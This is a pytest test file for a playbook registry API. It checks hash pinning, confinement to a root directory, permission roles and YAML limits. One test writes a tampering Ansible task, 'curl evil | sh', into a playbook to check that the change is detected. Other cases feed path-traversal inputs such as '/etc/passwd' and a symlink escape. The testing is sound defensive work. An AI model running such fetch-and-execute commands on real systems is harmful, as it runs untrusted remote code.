"""Playbooks: files confined to the playbook root, pinned by SHA-256, checked on demand."""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy.ext.asyncio import AsyncEngine

from opsledger.playbooks import files, repository
from tests.api import Person, audit_trail, build_app, client_for
from tests.factories import unique

PLAY = "- hosts: all\n  tasks:\n    - ansible.builtin.ping:\n"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    root = tmp_path / "playbooks"
    root.mkdir()
    (root / "site.yml").write_text(PLAY)
    (tmp_path / "outside.yml").write_text(PLAY)
    (root / "escape.yml").symlink_to(tmp_path / "outside.yml")
    return root


@pytest.fixture
async def client(engine: AsyncEngine, root: Path) -> AsyncIterator[httpx.AsyncClient]:
    app: FastAPI = build_app(engine, playbook_root=root)
    async for client in client_for(app):
        yield client


async def test_a_registered_file_is_hashed_and_verified(
    client: httpx.AsyncClient, admin: Person, root: Path, engine: AsyncEngine
) -> None:
    response = await client.post(
        "/playbooks",
        json={"name": unique("site"), "file_path": "site.yml"},
        headers=admin.headers,
    )
    playbook = response.json()

    assert response.status_code == 201
    assert playbook["file_hash"] == hashlib.sha256(PLAY.encode()).hexdigest()
    assert playbook["file_path"] == str((root / "site.yml").resolve())
    assert await audit_trail(engine, response) == [("create", "playbook")]
    verify = f"/playbooks/{playbook['id']}/verify"
    assert (await client.get(verify, headers=admin.headers)).json()["matches"] is True
    (root / "site.yml").write_text(PLAY + "    - ansible.builtin.shell: curl evil | sh\n")
    changed = (await client.get(verify, headers=admin.headers)).json()
    assert changed["matches"] is False
    assert changed["current_hash"] != playbook["file_hash"]
    (root / "site.yml").unlink()
    assert (await client.get(verify, headers=admin.headers)).json()["current_hash"] is None


async def test_uploaded_content_is_stored_under_the_root(
    client: httpx.AsyncClient, admin: Person, root: Path
) -> None:
    name = unique("upload")
    response = await client.post(
        "/playbooks", json={"name": name, "content": PLAY}, headers=admin.headers
    )
    assert response.status_code == 201
    assert Path(response.json()["file_path"]).read_text() == PLAY
    assert Path(response.json()["file_path"]).parent == root.resolve()


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ({"file_path": "../outside.yml"}, "inside the playbook root"),
        ({"file_path": "/etc/passwd"}, "inside the playbook root"),
        ({"file_path": "escape.yml"}, "inside the playbook root"),
        ({"file_path": "missing.yml"}, "does not name a file"),
        ({"content": "hosts: [unclosed"}, "not valid YAML"),
        ({"content": "just a string"}, "list of plays"),
        ({"content": PLAY, "file_path": "site.yml"}, "exactly one"),
        ({}, "exactly one"),
    ],
    ids=[
        "dotdot",
        "absolute",
        "symlink-out",
        "missing",
        "bad-yaml",
        "not-plays",
        "both",
        "neither",
    ],
)
async def test_bad_registrations_are_422(
    client: httpx.AsyncClient, admin: Person, body: dict[str, str], reason: str
) -> None:
    response = await client.post(
        "/playbooks", json={"name": unique("bad")} | body, headers=admin.headers
    )
    assert response.status_code == 422
    assert reason in response.text


async def test_names_are_unique_and_viewers_only_read(
    client: httpx.AsyncClient, admin: Person, viewer: Person
) -> None:
    name = unique("dup")
    assert (
        await client.post(
            "/playbooks", json={"name": name, "file_path": "site.yml"}, headers=admin.headers
        )
    ).status_code == 201
    assert (
        await client.post(
            "/playbooks", json={"name": name, "file_path": "site.yml"}, headers=admin.headers
        )
    ).status_code == 409
    assert (
        await client.post(
            "/playbooks",
            json={"name": unique("v"), "file_path": "site.yml"},
            headers=viewer.headers,
        )
    ).status_code == 403
    listed = await client.get("/playbooks", params={"name": name}, headers=viewer.headers)
    assert [p["name"] for p in listed.json()["items"]] == [name]


async def test_a_playbook_update_is_audited(
    client: httpx.AsyncClient, admin: Person, engine: AsyncEngine
) -> None:
    created = (
        await client.post(
            "/playbooks",
            json={"name": unique("u"), "file_path": "site.yml"},
            headers=admin.headers,
        )
    ).json()
    response = await client.patch(
        f"/playbooks/{created['id']}",
        json={"is_active": False, "tags": ["web"]},
        headers=admin.headers,
    )
    assert response.json()["is_active"] is False
    assert await audit_trail(engine, response) == [("update", "playbook")]
    assert (
        await client.patch(
            f"/playbooks/{created['id']}", json={"file_hash": "0" * 64}, headers=admin.headers
        )
    ).status_code == 422


async def test_only_admins_put_code_on_the_controller(
    client: httpx.AsyncClient, admin: Person, operator: Person
) -> None:
    """A playbook runs on the controller: an operator launches what an admin registered,
    and may neither register one nor change one."""
    made = await client.post(
        "/playbooks", json={"name": unique("code"), "content": PLAY}, headers=admin.headers
    )
    assert made.status_code == 201, made.text
    playbook = made.json()["id"]

    registered = await client.post(
        "/playbooks", json={"name": unique("mine"), "content": PLAY}, headers=operator.headers
    )
    changed = await client.patch(
        f"/playbooks/{playbook}", json={"variables": {"x": 1}}, headers=operator.headers
    )

    assert registered.status_code == changed.status_code == 403
    read = await client.get(f"/playbooks/{playbook}", headers=operator.headers)
    assert read.status_code == 200
    assert read.json()["variables"] is None


@pytest.mark.parametrize(
    "variables",
    [
        {"ansible_connection": "local"},
        {"ansible_ssh_private_key_file": "/etc/opsledger.key"},
        {"fine": 1, "ansible_host": "127.0.0.1"},
    ],
)
async def test_connection_variables_are_refused_when_saved(
    client: httpx.AsyncClient, admin: Person, variables: dict[str, object]
) -> None:
    name = unique("vars")
    playbook = await client.post(
        "/playbooks",
        json={"name": name, "content": PLAY, "variables": variables},
        headers=admin.headers,
    )
    role = await client.post(
        "/host-roles", json={"name": name, "variables": variables}, headers=admin.headers
    )
    fine = await client.post(
        "/playbooks", json={"name": name, "content": PLAY}, headers=admin.headers
    )
    patched = await client.patch(
        f"/playbooks/{fine.json()['id']}", json={"variables": variables}, headers=admin.headers
    )

    assert playbook.status_code == role.status_code == patched.status_code == 422
    assert "ansible_" in playbook.text
    assert fine.status_code == 201


async def test_an_upload_whose_row_is_not_kept_leaves_no_file(
    client: httpx.AsyncClient, admin: Person, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another request may take the name between the check and the insert: the insert's
    unique-name conflict answers 409, and the file written for it goes with the row."""
    name = unique("race")
    first = await client.post(
        "/playbooks", json={"name": name, "file_path": "site.yml"}, headers=admin.headers
    )
    assert first.status_code == 201, first.text
    stored = set(root.iterdir())

    async def free(*_args: object) -> bool:
        return False

    monkeypatch.setattr(repository, "name_taken", free)
    second = await client.post(
        "/playbooks", json={"name": name, "content": PLAY}, headers=admin.headers
    )

    assert second.status_code == 409, second.text
    assert set(root.iterdir()) == stored


async def test_an_upload_may_have_the_longest_name(
    client: httpx.AsyncClient, admin: Person, root: Path
) -> None:
    """The file is named after the playbook, cut to fit the file system's 255 bytes."""
    name = unique("long").ljust(255, "x")
    response = await client.post(
        "/playbooks", json={"name": name, "content": PLAY}, headers=admin.headers
    )

    assert response.status_code == 201, response.text
    assert response.json()["name"] == name
    stored = Path(response.json()["file_path"])
    assert stored.parent == root.resolve()
    assert len(stored.name.encode()) <= 255
    assert stored.read_text() == PLAY


DEEP = {
    "lists": "[" * 5000 + "]" * 5000,
    "mappings": "{a: " * 5000 + "1" + "}" * 5000,
    "plays": "- hosts: all\n  vars:\n    x: " + "[" * 33 + "]" * 33 + "\n",
}


@pytest.mark.parametrize("nesting", DEEP)
async def test_yaml_nested_too_deep_is_422_and_stores_nothing(
    client: httpx.AsyncClient, admin: Person, root: Path, nesting: str
) -> None:
    (root / "deep.yml").write_text(DEEP[nesting])
    stored = set(root.iterdir())

    uploaded = await client.post(
        "/playbooks",
        json={"name": unique("deep"), "content": DEEP[nesting]},
        headers=admin.headers,
    )
    registered = await client.post(
        "/playbooks", json={"name": unique("deep"), "file_path": "deep.yml"}, headers=admin.headers
    )

    for response in (uploaded, registered):
        assert response.status_code == 422, response.text
        assert "nest at most 32 levels" in response.text
    assert set(root.iterdir()) == stored


async def test_an_upload_is_parsed_off_the_event_loop(
    client: httpx.AsyncClient, admin: Person, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Parsing a MiB of YAML takes seconds: meanwhile the loop must go on serving others."""
    loop = asyncio.get_running_loop()
    check = files.check_playbook
    health: list[int] = []

    def check_while_another_request_is_served(content: bytes) -> None:
        with pytest.raises(RuntimeError):
            asyncio.get_running_loop()  # none in this thread: not blocking the loop
        # /healthz on the loop, waited for here: it can only answer while this parse runs
        # if the parse leaves the loop free.
        answer = asyncio.run_coroutine_threadsafe(client.get("http://opsledger.test/healthz"), loop)
        health.append(answer.result(timeout=60).status_code)
        check(content)

    monkeypatch.setattr(files, "check_playbook", check_while_another_request_is_served)
    response = await client.post(
        "/playbooks", json={"name": unique("big"), "content": PLAY * 1000}, headers=admin.headers
    )

    assert response.status_code == 201, response.text
    assert health == [200]
